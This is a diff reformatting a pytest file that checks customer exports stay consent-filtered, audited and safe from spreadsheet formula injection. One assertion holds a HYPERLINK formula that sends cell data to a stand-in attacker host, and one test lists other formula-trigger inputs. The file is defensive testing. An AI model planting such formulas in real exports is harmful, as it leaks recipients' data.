@@ -40,12 +40,37 @@ def _load(con, kind, rows):
 @pytest.fixture
 def scored(db):
     with store.connect(db) as con:
-        _load(con, "purchases", [{"customer_id": c, "order_date": AS_OF - timedelta(days=d), "amount": 30.0,
-                                  "order_id": f"{c}{d}"} for c, *_ in CUSTOMERS for d in (3, 40)])
-        _load(con, "mentions", [{"customer_id": c, "posted_at": pd.Timestamp(AS_OF), "text": "=1+1 love it",
-                                 "followers": 10, "sentiment": 0.7} for c, *_ in CUSTOMERS])
-        _load(con, "customers", [{"customer_id": c, "name": n, "email": e, "handle": h, "marketing_consent": k}
-                                 for c, n, e, h, k in CUSTOMERS])
+        _load(
+            con,
+            "purchases",
+            [
+                {"customer_id": c, "order_date": AS_OF - timedelta(days=d), "amount": 30.0, "order_id": f"{c}{d}"}
+                for c, *_ in CUSTOMERS
+                for d in (3, 40)
+            ],
+        )
+        _load(
+            con,
+            "mentions",
+            [
+                {
+                    "customer_id": c,
+                    "posted_at": pd.Timestamp(AS_OF),
+                    "text": "=1+1 love it",
+                    "followers": 10,
+                    "sentiment": 0.7,
+                }
+                for c, *_ in CUSTOMERS
+            ],
+        )
+        _load(
+            con,
+            "customers",
+            [
+                {"customer_id": c, "name": n, "email": e, "handle": h, "marketing_consent": k}
+                for c, n, e, h, k in CUSTOMERS
+            ],
+        )
         _load(con, "customers", [{"customer_id": "E", "name": "Eve Withdrawn", "marketing_consent": False}])
         res = advocates.score(con, viewer=Viewer("marketing"), as_of=AS_OF)
     assert len(res.customers) == len(CUSTOMERS)
@@ -81,7 +106,9 @@ def test_export_only_consented_and_formula_safe(scored, tmp_path, suffix):
     db, res = scored
     path = tmp_path / f"advocates.{suffix}"
     with store.connect(db) as con:
-        out = export.write_advocates(con, viewer=Viewer("marketing", name="Mia"), result=res, path=path, filter_text="tier>=Rising")
+        out = export.write_advocates(
+            con, viewer=Viewer("marketing", name="Mia"), result=res, path=path, filter_text="tier>=Rising"
+        )
         audit = con.execute("SELECT export_id, who, role, format, filter, rows, file_name FROM export_audit").fetchall()
     rows = _xlsx_rows(path) if suffix == "xlsx" else _csv_rows(path.read_bytes())
     header, body = _assert_safe(rows)
@@ -90,7 +117,7 @@ def test_export_only_consented_and_formula_safe(scored, tmp_path, suffix):
     assert out.rows == 3 and len(body) == 3
     names = [r[header.index("name")] for r in body]
     assert header[0] == "customer_id" and {r[0] for r in body} == {"A", "B", "D"}
-    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in names and "'+SUM(1,2)" in names
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in names and "'+SUM(1,2)" in names
     assert audit == [(out.export_id, "Mia", "marketing", suffix, "tier>=Rising", 3, path.name)]
     if suffix == "xlsx":  # numbers stay numbers
         for row in body:
@@ -130,10 +157,22 @@ def test_bad_format_refused_before_writing(scored, tmp_path, name):
         assert con.execute("SELECT count(*) FROM export_audit").fetchall()[0][0] == 0
 
 
-@pytest.mark.parametrize("value, expected", [
-    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-    ("Ann", "Ann"), ("", ""), (" =1", "' =1"), (-1, -1), (2.5, 2.5),  # " =1": a formula behind spaces is quoted too
-])
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("Ann", "Ann"),
+        ("", ""),
+        (" =1", "' =1"),
+        (-1, -1),
+        (2.5, 2.5),  # " =1": a formula behind spaces is quoted too
+    ],
+)
 def test_neutralise(value, expected):
     assert export.neutralise(value) == expected
 
